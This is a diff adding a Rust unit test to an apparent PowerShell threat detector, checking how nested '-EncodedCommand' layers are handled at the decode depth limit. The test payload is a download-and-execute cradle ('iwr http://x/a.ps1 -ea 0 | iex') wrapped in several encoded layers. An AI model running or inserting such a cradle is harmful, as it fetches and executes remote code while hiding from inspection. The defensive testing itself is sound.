@@ -614,3 +614,43 @@ fn rules_reject_patterns_for_unknown_indicators() {
     let rules = Rules::from_table(table).unwrap();
     assert!(PowerShellDetector::new(&rules).is_err());
 }
+
+// --- the decoder's depth limit ------------------------------------------------------
+
+/// `script` wrapped in `layers` nested `powershell -enc`, as the outer command line.
+fn nested_enc(script: &str, layers: usize) -> String {
+    let mut text = script.to_string();
+    for _ in 0..layers {
+        text = format!("powershell.exe -NoProfile -EncodedCommand {}", enc(&text));
+    }
+    text
+}
+
+#[test]
+fn encodings_deeper_than_the_limit_are_reported_not_dropped() {
+    let payload = "iwr http://x/a.ps1 -ea 0 | iex";
+    // Within the limit: judged on the innermost text.
+    let f = one_process(PS, &nested_enc(payload, 4));
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["download_cradle", "error_action_suppressed"]);
+    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
+    // One layer more: the suppression is out of sight, the evidence is still
+    // reported, saying why.
+    let f = one_process(PS, &nested_enc(payload, 6));
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["decode_depth_limit"]);
+    assert!(f[0].severity >= Severity::Medium);
+    // The limit is rule data.
+    let mut table = Rules::embedded().table().clone();
+    table["powershell"]["max_decode_depth"] = toml::Value::Integer(8);
+    let rules = Rules::from_table(table).unwrap();
+    let mut d = PowerShellDetector::new(&rules).unwrap();
+    let mut out = Findings::default();
+    d.observe(&Event::Process(proc(PS, &nested_enc(payload, 6))), &mut out);
+    let f = out.drain();
+    assert_eq!(f.len(), 1);
+    has(&f[0], &["download_cradle", "error_action_suppressed"]);
+    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
+    // Depth alone is not evidence: a benign script two layers down is not a finding.
+    assert!(one_process(PS, &nested_enc("Get-Date", 2)).is_empty());
+}
